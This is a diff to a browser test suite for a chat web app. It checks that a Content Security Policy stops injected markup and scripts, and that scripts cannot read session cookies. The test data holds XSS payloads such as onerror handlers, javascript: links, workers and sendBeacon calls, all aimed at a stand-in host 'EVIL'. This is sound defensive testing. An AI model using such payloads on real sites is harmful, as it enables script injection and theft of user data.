@@ -15,7 +15,7 @@ from tests.browser.room_page import RoomPage
 NewPage = Callable[..., Page]
 # Into the page as an attacker would bring it, whom textContent did not stop. EVIL is another origin.
 MARKUP = {
-    "event handler": "<img src=/nowhere onerror=\"fetch('EVIL', {mode: 'no-cors'})\">",
+    "event handler": "<img src=/nowhere onerror=\"ran = true; fetch('EVIL', {mode: 'no-cors'})\">",
     "image": "<img src='EVIL'>",
     "style attribute": "<p style=\"background: url('EVIL')\">x</p>",
     "style element": "<style>main { background: url('EVIL') }</style>",
@@ -27,12 +27,12 @@ MARKUP = {
 }
 # What a planted script would do, and means of planting that need more than markup.
 SCRIPTS = {
-    "inline script": "const s = document.createElement('script'); s.text = \"new Image().src = 'EVIL'\";"
+    "inline script": "const s = document.createElement('script'); s.text = \"ran = true; new Image().src = 'EVIL'\";"
     " document.body.append(s)",
     "script from elsewhere": "const s = document.createElement('script'); s.src = 'EVIL'; document.body.append(s)",
-    "script address": "const a = document.createElement('a'); a.href = \"javascript:void(new Image().src = 'EVIL')\";"
-    " document.body.append(a); a.click()",
-    "text as code": "setTimeout(\"new Image().src = 'EVIL'\", 0)",
+    "script address": "const a = document.createElement('a');"
+    " a.href = \"javascript:void(ran = true, new Image().src = 'EVIL')\"; document.body.append(a); a.click()",
+    "text as code": "setTimeout(\"ran = true; new Image().src = 'EVIL'\", 0)",
     "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('EVIL', {mode: 'no-cors'})\"])))",
     "fetch": "fetch('EVIL', {mode: 'no-cors'}).catch(() => {})",
     "beacon": "navigator.sendBeacon('EVIL', 'x')",
@@ -87,6 +87,7 @@ def test_nothing_planted_runs_or_calls_home(new_page: NewPage, room: str, elsewh
     with page.expect_console_message(lambda message: "Content Security Policy" in message.text):
         page.evaluate(script)
     assert page.evaluate("fetch('/healthz').then(({status}) => status)") == 200
+    assert not page.evaluate("window.ran")
     assert not elsewhere.is_asked.is_set()
 
     defenceless = RoomPage(new_page(bypass_csp=True)).enter(room).page
@@ -101,8 +102,10 @@ def test_no_script_reads_what_proves_who_one_is(page: Page, room: str) -> None:
         page.get_by_label(label, exact=True).fill("correct horse battery")
     page.get_by_role("button", name="Sign up").click()
     page.wait_for_url("**/chat/")
+    page.get_by_role("button", name="日本語").click()
+    page.get_by_role("button", name="English").wait_for()
     cookies = {cookie["name"]: cookie for cookie in page.context.cookies()}
-    assert {"sessionid", "guest"} <= cookies.keys()
+    assert {"sessionid", "guest", "csrftoken", "django_language"} <= cookies.keys()
     readable = page.evaluate("document.cookie")
     for name, cookie in cookies.items():
         # A page must read its CSRF token to send it in a header: docs/api.md.
